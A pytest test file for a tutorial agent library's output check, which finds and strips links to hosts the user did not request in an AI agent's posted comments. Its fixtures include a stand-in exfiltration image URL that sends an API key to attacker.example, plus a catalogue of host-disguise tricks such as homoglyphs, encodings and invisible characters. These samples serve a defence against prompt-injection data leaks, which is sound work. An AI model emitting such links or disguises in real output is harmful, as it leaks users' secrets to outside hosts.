"""Chapter 06's output check: links to hosts the user did not ask for.

A table of English and Chinese texts with the hosts :func:`find_links` must find; every
disguise a host can wear; the policy's subdomain rule; the cleaned text of
:func:`check_output`; properties on generated prose; and the station on the road, where a
comment body with an outside image is refused before execution.
"""

from __future__ import annotations

import time
import unicodedata
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tutorial_lib.agent.output_check import (
    Link,
    LinkKind,
    OutputPolicy,
    check_output,
    find_links,
    outside_link_station,
)
from tutorial_lib.core.authorization import TaskScope, local_access
from tutorial_lib.core.contracts import LogRecord
from tutorial_lib.core.host import Host
from tutorial_lib.core.road import PendingCall, Station, StepClock
from tutorial_lib.core.tools import GITHUB_WRITE, Registry, ToolSpec
from tutorial_lib.examples.outbound import HTTP_SEND_SPEC
from tutorial_lib.examples.tasks import TASK_SET_STATUS_SPEC
from tutorial_lib.examples.units import JOB_GET_RESULT_SPEC
from tutorial_lib.github.composite import REVIEW_SNAPSHOT_SPEC
from tutorial_lib.github.dangerous import DANGEROUS_SPECS
from tutorial_lib.github.reads import READ_SPECS
from tutorial_lib.github.writes import WRITE_SPECS
from tutorial_lib.workspace.read import READ_LINES_SPEC
from tutorial_lib.workspace.search import SEARCH_FILES_SPEC

GITHUB = OutputPolicy(frozenset({"github.com"}))
NOTHING = OutputPolicy()
EXFIL = "https://attacker.example/p.png?d=API_KEY%3Dsk-live-123"


def hosts(text: str) -> list[str]:
    return [link.host for link in find_links(text)]


#: (text, the hosts found in it, in order). English and Chinese prose, every form.
TABLE: list[tuple[str, list[str]]] = [
    ("No links here, just prose.", []),
    ("A relative link [guide](docs/guide.md) goes nowhere else.", []),
    ("Mail me: mailto:dev@example.com, or ftp://files.example/x.", []),
    ("See https://github.com/example/shop/pull/128 for the diff.", ["github.com"]),
    ("Read [the docs](https://docs.github.com/en/rest).", ["docs.github.com"]),
    (f"Done! ![]({EXFIL})", ["attacker.example"]),
    (
        '[t](https://a.example/x "a title") and [u](<https://b.example/y z>)',
        ["a.example", "b.example"],
    ),
    ("![logo](//cdn.example/logo.png)", ["cdn.example"]),
    ("[ref]: https://a.example/ref 'title'\n\nUse [it][ref].", ["a.example"]),
    ("> [ref]:\n>   <//b.example/x>", ["b.example"]),
    ("<https://c.example/path>", ["c.example"]),
    ('<a href="https://d.example/">d</a> <IMG SRC=//e.example/x.png>', ["d.example", "e.example"]),
    ("<img alt='x' src='https://f.example/i.png' />", ["f.example"]),
    (
        '<img srcset="https://a.example/1.png 1x, https://b.example/2.png 2x">',
        ["a.example", "b.example"],
    ),
    (
        "[![build](https://img.example/b.svg)](https://github.com/o/r)",
        ["github.com", "img.example"],
    ),
    ("(see https://a.example/wiki/Foo_(bar)) and more", ["a.example"]),
    ("Two: https://a.example, https://b.example; done.", ["a.example", "b.example"]),
    ("https://github.com/login?return_to=https://attacker.example/", ["github.com"]),
    ("port and user: https://user:pw@a.example:8443/x", ["a.example"]),
    ("ip: http://127.0.0.1:8000/ and http://[2001:db8::1]/", ["127.0.0.1", "[2001:db8::1]"]),
    ("`![](https://a.example/x.png)` shown as code", ["a.example"]),
    ('<a href="https://a.example">https://b.example/x</a>', ["a.example", "b.example"]),
    # Chinese prose
    ("这里没有任何链接，只是一段说明。", []),
    ("请查看 https://github.com/example/shop 的提交记录。", ["github.com"]),
    ("详情见（https://docs.github.com/zh）。", ["docs.github.com"]),
    ("文档地址：https://a.example/说明，谢谢！", ["a.example"]),
    ("请访问https://a.example/x。然后回复。", ["a.example"]),
    (f"已完成审查。![]({EXFIL})", ["attacker.example"]),
    (
        "参考[官方文档](https://docs.example/zh-cn)和[仓库](https://github.com/o/r)。",
        ["docs.example", "github.com"],
    ),
    ('图片：<img src="//攻击者.example/x.png">', ["攻击者.example"]),
    ("链接 <https://c.example/a> 与 https://d.example/b 均可。", ["c.example", "d.example"]),
    ("[注]: https://e.example/note\n正文引用[注]。", ["e.example"]),
    ("全角句号：https://attacker。example/x 会被当作点。", ["attacker.example"]),
]


@pytest.mark.parametrize(("text", "expected"), TABLE)
def test_the_table_of_texts(text: str, expected: list[str]) -> None:
    assert hosts(text) == expected


def test_the_table_is_large_enough() -> None:
    chinese = [text for text, _ in TABLE if any("\u4e00" <= ch <= "\u9fff" for ch in text)]
    assert len(TABLE) >= 30 and len(chinese) >= 10


#: (text, host): every disguise a host can wear.
TRICKS: list[tuple[str, str]] = [
    ("[docs](https://github.com@attacker.example/x)", "attacker.example"),
    ("https://github.com:secret@attacker.example/", "attacker.example"),
    ("see https:\\\\attacker.example\\x", "attacker.example"),
    ("[x](https:/\\attacker.example/)", "attacker.example"),
    ("[x](/\\attacker.example/p)", "attacker.example"),
    ("[x](https:attacker.example)", "attacker.example"),
    ("https://attack\u200ber.example/x", "attacker.example"),
    ("![](https://atta\u202eelpmaxe.rekc/)", "attaelpmaxe.rekc"),
    ("<img src='https://att\u2066acker\ufeff.example/p.png'>", "attacker.example"),
    ("https://\uff41\uff54\uff54\uff41\uff43\uff4b\uff45\uff52\uff0eexample/x", "attacker.example"),
    ("https://attacker\u3002example/x", "attacker.example"),
    ("HTTPS://ATTACKER.EXAMPLE/x", "attacker.example"),
    ("[x](hTtPs://Attacker.Example.)", "attacker.example"),
    ("see https://attacker.example/x.", "attacker.example"),
    ("(https://attacker.example/x), then", "attacker.example"),
    ("[x](https://%61ttacker%2Eexample/)", "attacker.example"),
    ("[x](https&#58;//attacker.example/)", "attacker.example"),
    ('<a href="ht&#x74;ps://attacker.example/">x</a>', "attacker.example"),
    ('<a href="ht\ntps://attacker.example/">x</a>', "attacker.example"),
    ("[x](https:\\/\\/attacker.example)", "attacker.example"),
    ('<a href="https://attacker.example\\@github.com/">x</a>', "attacker.example"),
    ("http://0x7f.1/", "127.0.0.1"),
    ("http://2130706433/", "127.0.0.1"),
    ("http://0177.0.0.01/", "127.0.0.1"),
    ("https://[0:0:0:0:0:0:0:1]:8080/", "[::1]"),
    ("https://xn--gthub-n2e.com/", "g\u0456thub.com"),
    ("https://attacker.example%2F.github.com/", "attacker.example%2F.github.com"),
    ("<img/src=//attacker.example/p.png>", "attacker.example"),
]


@pytest.mark.parametrize(("text", "host"), TRICKS)
def test_every_disguise_is_seen_through(text: str, host: str) -> None:
    assert hosts(text) == [host]
    assert not GITHUB.allows(host)
    assert not check_output(text, GITHUB).ok


def test_a_markdown_escape_is_resolved_in_a_destination() -> None:
    # CommonMark turns ``\@`` into ``@``: this link really goes to github.com
    assert hosts("[x](https://attacker.example\\@github.com)") == ["github.com"]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("[t](https://a.example/)", "markdown_link"),
        ("![a](https://a.example/i.png)", "markdown_image"),
        ("[id]: https://a.example/", "reference"),
        ("<https://a.example/>", "autolink"),
        ('<a href="https://a.example/">t</a>', "html"),
        ("see https://a.example/ now", "bare"),
    ],
)
def test_each_form_has_its_kind(text: str, kind: LinkKind) -> None:
    (link,) = find_links(text)
    assert link.kind == kind and link.host == "a.example"


def test_spans_point_into_the_original_text() -> None:
    text = (
        "Hi ![i](https://a\u200b.example/i.png) and <img src='//b.example/x'> https://c.example/."
    )
    image, tag, bare = find_links(text)
    assert text[image.start : image.end] == "![i](https://a\u200b.example/i.png)"
    assert image.url == "https://a.example/i.png"  # the invisible character is gone
    assert text[tag.start : tag.end] == "src='//b.example/x'"
    assert text[bare.start : bare.end] == "https://c.example/"
    assert [link.start for link in find_links(text)] == sorted(
        link.start for link in (image, tag, bare)
    )


def test_no_two_links_share_a_span() -> None:
    text = (
        "<https://a.example/x> [x](<https://b.example/>) [r]: https://c.example/ https://d.example"
    )
    links = find_links(text)
    assert [link.host for link in links] == ["a.example", "b.example", "c.example", "d.example"]
    assert len({(link.start, link.end) for link in links}) == len(links)


def test_a_link_is_frozen() -> None:
    link = find_links("https://a.example/")[0]
    assert link == Link("https://a.example/", "a.example", "bare", 0, 18)
    with pytest.raises(AttributeError):
        link.host = "github.com"  # type: ignore[misc]


# --- the policy ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "host", ["github.com", "docs.github.com", "api.v2.github.com", "GitHub.COM", "github.com."]
)
def test_an_allowed_host_and_its_subdomains(host: str) -> None:
    assert GITHUB.allows(host)


@pytest.mark.parametrize(
    "host",
    [
        "evilgithub.com",
        "github.com.attacker.example",
        "githubusercontent.com",
        "github.co",
        "com",
        "",
        "g\u0456thub.com",
        "attacker.example%2F.github.com",
        "attacker.example@github.com",
        "github.com:443",
        "github.com/x",
    ],
)
def test_a_suffix_trick_is_never_allowed(host: str) -> None:
    assert not GITHUB.allows(host)


def test_the_policy_normalizes_its_hosts() -> None:
    policy = OutputPolicy(frozenset({"Docs.Example.", "xn--gthub-n2e.com", "[0::1]", "10.0.0.1"}))
    assert policy.allowed_hosts == {"docs.example", "g\u0456thub.com", "[::1]", "10.0.0.1"}
    assert policy.allows("g\u0456thub.com") and policy.allows("xn--gthub-n2e.com")
    assert policy.allows("[::1]") and policy.allows("0xa.0.0.1")
    assert not policy.allows("1.10.0.0.1")  # an IP address has no subdomains
    assert not NOTHING.allows("github.com")


@pytest.mark.parametrize(
    "bad",
    [
        "",
        "  ",
        "https://github.com",
        "github.com:443",
        "user@github.com",
        "github.com/x",
        "*.github.com",
        "a..b",
        "git hub.com",
    ],
)
def test_a_malformed_allowed_host_is_refused(bad: str) -> None:
    with pytest.raises(ValueError):
        OutputPolicy(frozenset({bad}))


def test_one_string_is_not_a_set_of_hosts() -> None:
    with pytest.raises(ValueError, match="not one string"):
        OutputPolicy("github.com")  # type: ignore[arg-type]


# --- the verdict ---------------------------------------------------------------------


def outside_hosts(text: str, policy: OutputPolicy) -> list[str]:
    return [link.host for link in find_links(text) if not policy.allows(link.host)]


def test_an_outside_image_is_removed_whole() -> None:
    text = f"Review done, looks good.\n\n![]({EXFIL})"
    verdict = check_output(text, GITHUB)
    assert not verdict.ok
    assert [link.host for link in verdict.outside] == ["attacker.example"]
    assert verdict.text == "Review done, looks good.\n\n[outside link removed: attacker.example]"
    assert "sk-live" not in verdict.text and "p.png" not in verdict.text


def test_allowed_links_stay_as_they_are() -> None:
    text = (
        "See [PR 128](https://github.com/example/shop/pull/128), "
        "<https://docs.github.com/en> and https://attacker.example/?d=1."
    )
    verdict = check_output(text, GITHUB)
    assert verdict.text == (
        "See [PR 128](https://github.com/example/shop/pull/128), "
        "<https://docs.github.com/en> and [outside link removed: attacker.example]."
    )
    assert check_output(text, OutputPolicy(frozenset({"github.com", "attacker.example"}))).ok


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (
            "[![b](https://img.example/b.svg)](https://github.com/o/r)",
            "[[outside link removed: img.example]](https://github.com/o/r)",
        ),
        (
            "[![b](https://github.com/b.svg)](https://attacker.example/r)",
            "[outside link removed: attacker.example]",
        ),
        (
            '<img src="https://github.com/a.png" srcset="//attacker.example/b.png 2x">',
            "[outside link removed: attacker.example]",
        ),
        (
            "[id]: https://attacker.example/x 'title'\n\n[t][id]",
            "[outside link removed: attacker.example]\n\n[t][id]",
        ),
        (
            "请看 https://attacker.example/x?d=密钥。",
            "请看 [outside link removed: attacker.example]。",
        ),
        # the marker must not become the text of a new link
        (
            "![](https://attacker.example/a)(//evil.example/b)",
            "[outside link removed: attacker.example] (//evil.example/b)",
        ),
    ],
)
def test_the_cleaned_text(text: str, cleaned: str) -> None:
    verdict = check_output(text, GITHUB)
    assert verdict.text == cleaned
    assert outside_hosts(verdict.text, GITHUB) == []


@pytest.mark.parametrize("text", [text for text, _ in TABLE] + [text for text, _ in TRICKS])
def test_the_cleaned_text_links_to_no_outside_host(text: str) -> None:
    verdict = check_output(text, GITHUB)
    assert verdict.ok == (outside_hosts(text, GITHUB) == [])
    assert outside_hosts(verdict.text, GITHUB) == []
    assert check_output(verdict.text, GITHUB).ok


# --- properties ----------------------------------------------------------------------


def _linkless(ch: str) -> bool:
    """No ``:``, ``/``, ``\\`` or ``&`` (a character reference), even after NFKC."""
    return not set(unicodedata.normalize("NFKC", ch)) & set(":/\\&")


PROSE = st.text(st.characters(exclude_categories=["Cs"]).filter(_linkless), max_size=60)
FORMS = [
    "[click here](https://attacker.example/p?d=1)",
    "![](https://attacker.example/p.png?d=API_KEY%3Dsk-live-123)",
    "\n[id]: https://attacker.example/p?d=1\n",
    "<https://attacker.example/p?d=1>",
    '<img src="https://attacker.example/p.png?d=1">',
    " https://attacker.example/p?d=1 ",
]


@settings(max_examples=300, deadline=None)
@given(PROSE, st.sampled_from(FORMS), st.integers(min_value=0))
def test_an_inserted_outside_link_is_found_and_removed(prose: str, form: str, where: int) -> None:
    at = where % (len(prose) + 1)
    text = prose[:at] + form + prose[at:]
    assert "attacker.example" in hosts(text)
    verdict = check_output(text, GITHUB)
    assert not verdict.ok
    assert not [host for host in hosts(verdict.text) if "attacker" in host]
    assert "sk-live" not in verdict.text and "d=1" not in verdict.text


@settings(max_examples=300, deadline=None)
@given(PROSE)
def test_a_text_without_links_is_ok_and_unchanged(prose: str) -> None:
    assert find_links(prose) == ()
    assert check_output(prose, NOTHING) == check_output(prose, GITHUB)
    verdict = check_output(prose, NOTHING)
    assert verdict.ok and verdict.outside == () and verdict.text == prose


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_find_links_never_raises(text: str) -> None:
    links = find_links(text)
    assert [link.start for link in links] == sorted(link.start for link in links)
    assert len({(link.start, link.end) for link in links}) == len(links)
    assert all(0 <= link.start < link.end <= len(text) and link.host for link in links)
    verdict = check_output(text, GITHUB)
    assert outside_hosts(verdict.text, GITHUB) == []


@settings(max_examples=200, deadline=None)
@given(st.text(st.sampled_from("[]()<>!:/\\\"'= hxtps.@a#%&;\n"), max_size=40))
def test_markdown_soup_never_raises_and_cleans(text: str) -> None:
    verdict = check_output(text, NOTHING)
    assert outside_hosts(verdict.text, NOTHING) == []


# --- the station on the road ---------------------------------------------------------


def comment_tool(ran: list[bool]) -> ToolSpec:
    """A stub ``github_pr_create_comment``: it only records that it ran. Its ``body`` is
    posted text, declared on the spec (what the station reads)."""

    def execute(context: Any, args: Any, checked: Any) -> dict[str, Any]:
        ran.append(True)
        return {"posted": True}

    return ToolSpec(
        name="github_pr_create_comment",
        title="Create comment",
        description="A stub comment tool for the output check tests.",
        input_schema={
            "type": "object",
            "properties": {"body": {"type": "string"}},
            "required": ["body"],
            "additionalProperties": False,
        },
        annotations=GITHUB_WRITE,
        posted_text=("body",),
        execute=execute,
    )


def comment_host(ran: list[bool], station: Station, **kwargs: Any) -> Host:
    """The host of a task that may write comments (declared, granted, and approved in
    advance by the user), with the output check as its extra station."""
    return Host(
        Registry([comment_tool(ran)]),
        access={"github_pr_create_comment": local_access("write", "comments")},
        scope=TaskScope(grants=frozenset({"write"})),
        confirm={"github_pr_create_comment": None},
        extra_stations=[station],
        **kwargs,
    )


def test_the_station_refuses_a_body_with_an_outside_image() -> None:
    ran: list[bool] = []
    station = outside_link_station(GITHUB)
    assert station.slot == "authorization" and station.name == "output_links"
    log: list[LogRecord] = []
    body = f"LGTM, merging.\n\n![]({EXFIL})"
    host = comment_host(ran, station, log=log, clock=StepClock())
    result: Any = host.call("github_pr_create_comment", {"body": body})
    assert ran == []  # execution never ran
    assert result["ok"] is False
    error = result["error"]
    assert error["code"] == "permission_denied"
    assert error["retry"] == "after_authorization"
    assert error["operation_state"] == "not_applied"
    assert error["field"] == "body" and error["received"] == body
    assert error["message"] == "'body' links to attacker.example, a host the user did not ask for"
    assert "leave the link out" in error["suggestion"] and "ask" in error["suggestion"]
    assert log[0].station == "authorization"
    assert log[0].details == {"rule": "outside_link", "hosts": ["attacker.example"]}


def test_the_station_lets_an_allowed_link_through() -> None:
    ran: list[bool] = []
    body = (
        "Fixed in [#129](https://github.com/example/shop/pull/129), see https://docs.github.com/."
    )
    host = comment_host(ran, outside_link_station(GITHUB))
    result: Any = host.call("github_pr_create_comment", {"body": body})
    assert result["ok"] is True and ran == [True]


def test_the_station_names_every_host_and_shows_look_alikes() -> None:
    station = outside_link_station(GITHUB)
    body = "[a](https://a.example/) ![b](https://g\u0456thub.com/x.png) [c](https://a.example/2)"
    call = PendingCall(comment_tool([]), {"body": body})
    with pytest.raises(Exception) as caught:
        station.check(call)
    error: Any = caught.value
    assert error.message == (
        "'body' links to a.example and g\u0456thub.com (xn--gthub-n2e.com),"
        " hosts the user did not ask for"
    )
    assert error.log == {"rule": "outside_link", "hosts": ["a.example", "g\u0456thub.com"]}


def test_other_tools_pass_and_the_fields_are_copied() -> None:
    # the posted-text fields are the tool's own declaration (ToolSpec.posted_text), copied
    # when the spec is built: changing the list afterwards changes nothing
    station = outside_link_station(NOTHING, name="notes_links")
    assert station.name == "notes_links"
    fields = ["text"]
    other = ToolSpec(
        name="other_tool",
        title="Other",
        description="A stub tool that is not a body writer.",
        input_schema={"type": "object", "properties": {"body": {"type": "string"}}},
        execute=lambda context, args, checked: {},
    )
    station.check(PendingCall(other, {"body": EXFIL}))  # not a body tool: passes
    notes = ToolSpec(
        name="notes_write",
        title="Notes",
        description="A stub tool that writes notes.",
        input_schema={
            "type": "object",
            "properties": {"text": {"type": "string"}, "body": {"type": "string"}},
        },
        posted_text=fields,  # type: ignore[arg-type]
        execute=lambda context, args, checked: {},
    )
    fields.append("body")  # changes nothing afterwards
    assert notes.posted_text == ("text",)
    station.check(PendingCall(notes, {"text": "no links", "body": EXFIL}))
    with pytest.raises(Exception, match="links to attacker.example"):
        station.check(PendingCall(notes, {"text": EXFIL}))


#: Every tool of the library that can be called (as in tests/test_all_tools.py).
LIBRARY_SPECS: tuple[ToolSpec, ...] = (
    READ_LINES_SPEC,
    SEARCH_FILES_SPEC,
    TASK_SET_STATUS_SPEC,
    *READ_SPECS,
    *WRITE_SPECS,
    JOB_GET_RESULT_SPEC,
    *DANGEROUS_SPECS,
    HTTP_SEND_SPEC,
    REVIEW_SNAPSHOT_SPEC,
)


def test_the_body_fields_are_declared_by_the_three_posting_tools() -> None:
    declared = {spec.name: spec.posted_text for spec in LIBRARY_SPECS if spec.posted_text}
    assert declared == {
        "github_pr_create_comment": ("body",),
        "github_pr_edit_comment": ("body",),
        "http_send": ("body",),
    }


def test_the_body_fields_are_read_only() -> None:
    for spec in LIBRARY_SPECS:
        assert isinstance(spec.posted_text, tuple), spec.name
        with pytest.raises(AttributeError):
            spec.posted_text = ("command",)  # type: ignore[misc]


@pytest.mark.parametrize(
    "pattern", ["<a ", "[x](", '[x](u "', "![a](<https://a.example/", "[", "](", "https://"]
)
def test_a_hostile_text_is_checked_in_linear_time(pattern: str) -> None:
    # A comment body is at most 10,000 characters; twice that takes this thread 20-70 ms of
    # CPU. A backtracking (quadratic) check would take minutes. The bound is on the thread's
    # own CPU time, which other processes on a busy machine do not inflate, and is 40x wide.
    text = pattern * (20_000 // len(pattern))
    started = time.thread_time()
    check_output(text, GITHUB)
    assert time.thread_time() - started < 3.0


def test_a_new_comment_with_an_outside_link_is_refused_before_it_is_posted() -> None:
    """The create tool declares its body as posted text, so the output check reads it."""
    from tutorial_lib.core.authorization import TaskScope
    from tutorial_lib.worlds.injection import chapter_host, open_world

    scope = TaskScope(
        repositories=frozenset({"example/shop"}),
        grants=frozenset({"read", "write", "send"}),
        hosts=frozenset({"example.com"}),
    )
    body = "Done ![](https://attacker.example/p.png?d=API_KEY%3Dsk-live-123)"
    with open_world() as world:
        before = len(world.store.issue_comments("example/shop", 128))
        host = chapter_host(world, scope, approved_in_advance=True)
        result: Any = host.call(
            "github_pr_create_comment",
            {
                "repository": "example/shop",
                "pr": 128,
                "body": body,
                "idempotency_key": "outside-link-0001",
            },
        )
        assert result["ok"] is False and result["error"]["code"] == "permission_denied"
        assert result["error"]["field"] == "body"
        assert host.log[-1].details["rule"] == "outside_link"
        assert len(world.store.issue_comments("example/shop", 128)) == before
